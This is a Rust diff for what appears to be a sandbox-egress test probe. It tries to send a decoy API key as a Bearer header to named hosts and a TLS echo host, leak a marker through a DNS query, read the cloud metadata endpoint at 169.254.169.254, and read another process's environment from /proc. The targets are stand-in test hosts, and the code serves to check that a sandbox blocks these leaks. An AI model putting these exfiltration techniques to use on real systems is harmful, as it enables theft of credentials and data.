@@ -4,7 +4,7 @@
 use std::collections::BTreeMap;
 use std::fs;
 use std::io::Write as _;
-use std::net::{SocketAddr, TcpStream, UdpSocket};
+use std::net::{IpAddr, SocketAddr, TcpStream, ToSocketAddrs as _, UdpSocket};
 use std::os::unix::net::UnixStream;
 use std::path::{Path, PathBuf};
 use std::process::ExitCode;
@@ -12,6 +12,7 @@ use std::time::Duration;
 
 use serde::{Deserialize, Serialize};
 
+use super::host;
 use crate::gate::runtime::plan::digest;
 
 /// What the probe is told: where everything is.
@@ -25,6 +26,16 @@ pub struct Script {
     pub tcp: BTreeMap<String, SocketAddr>,
     /// The collector of datagrams.
     pub udp: SocketAddr,
+    /// The collector of names.
+    pub sink: SocketAddr,
+    /// Hosts with names, by row.
+    pub named: BTreeMap<String, Named>,
+    /// The host that repeats what it is sent, over TLS.
+    pub echo: Named,
+    /// Whether names are asked for at all: outside of a run nobody has them, and no question may leave the machine.
+    pub names: bool,
+    /// Where metadata is asked for.
+    pub metadata: Vec<SocketAddr>,
     /// The decoy bus.
     pub bus: PathBuf,
     /// A process outside, which holds a decoy in its environment.
@@ -32,6 +43,20 @@ pub struct Script {
     /// Where the findings go.
     pub findings: PathBuf,
 }
+
+/// A host by name, and where it stands: bare, the probe goes there.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct Named {
+    /// The name.
+    pub host: String,
+    /// The address.
+    pub stands: SocketAddr,
+}
+
+/// The variable whose value the probe sends where it does not belong.
+pub const KEY: &str = "DRILL_API_KEY";
+/// A name below the collector's, with the word in it.
+const CARRIER: &str = "DRILL.sink.drill.test";
 
 /// The program.
 pub fn main(script: &Path) -> ExitCode {
@@ -74,6 +99,44 @@ fn act(script: &Script) -> Vec<String> {
     if let Ok(socket) = UdpSocket::bind("127.0.0.1:0") {
         drop(socket.send_to(b"DRILL", script.udp));
     }
+    if let Ok(socket) = UdpSocket::bind("127.0.0.1:0") {
+        drop(socket.send_to(&question(CARRIER), script.sink));
+    }
+    // Inside a run a name is answered with a stand-in of 198.18.0.0/15; anything else was asked for outside.
+    if script.names
+        && resolve(CARRIER).iter().any(|to| !matches!(to.ip(), IpAddr::V4(ip) if ip.octets()[..2] == [198, 18]))
+    {
+        findings.push("dns yes".to_owned());
+    }
+    for (row, Named { host, stands }) in &script.named {
+        let more = match (row.as_str(), std::env::var(KEY)) {
+            ("key", Ok(key)) => format!("authorization: Bearer {key}\r\n"),
+            ("key", Err(_)) => continue,
+            _ => String::new(),
+        };
+        let mut ways = if script.names { resolve(host) } else { Vec::new() };
+        ways.push(*stands);
+        for to in ways {
+            // Judged by what the host received.
+            drop(host::send(to, host, "POST /", &more, "DRILL"));
+        }
+    }
+    if let Ok(key) = std::env::var(KEY) {
+        let Named { host, stands } = &script.echo;
+        let ways = if script.names { resolve(host) } else { Vec::new() };
+        for to in ways.into_iter().map(|to| SocketAddr::new(to.ip(), 443)).chain([*stands]) {
+            let said = host::send_tls(to, host, "GET /v1/", &format!("authorization: Bearer {key}\r\n"));
+            let said = said.map(|(_, body)| String::from_utf8_lossy(&body).into_owned()).unwrap_or_default();
+            if let Some(repeated) = said.lines().find_map(|line| line.split_once("Bearer ")) {
+                findings.push(format!("echo {}", digest(repeated.1.trim().as_bytes())));
+            }
+        }
+    }
+    for to in &script.metadata {
+        if let Some((200, body)) = host::send(*to, "169.254.169.254", "GET /latest/meta-data/", "", "") {
+            findings.push(format!("metadata {}", digest(&body)));
+        }
+    }
     if let Ok(mut stream) = UnixStream::connect(&script.bus) {
         drop(stream.write_all(b"DRILL"));
     }
@@ -94,4 +157,19 @@ fn environment_of(process: i32) -> Option<Vec<u8>> {
     let environment = fs::read(format!("/proc/{process}/environ")).ok()?;
     let mut variables = environment.split(|byte| *byte == 0);
     variables.find_map(|variable| variable.strip_prefix(b"DRILL_DECOY=")).map(<[u8]>::to_vec)
+}
+
+fn resolve(host: &str) -> Vec<SocketAddr> {
+    (host, 80).to_socket_addrs().map(Iterator::collect).unwrap_or_default()
+}
+
+/// A question for the address of that name (RFC 1035, 4.1).
+fn question(name: &str) -> Vec<u8> {
+    let mut message = vec![0xd7, 0x11, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+    for label in name.split('.') {
+        message.extend(u8::try_from(label.len()));
+        message.extend(label.as_bytes());
+    }
+    message.extend([0, 0, 1, 0, 1]);
+    message
 }
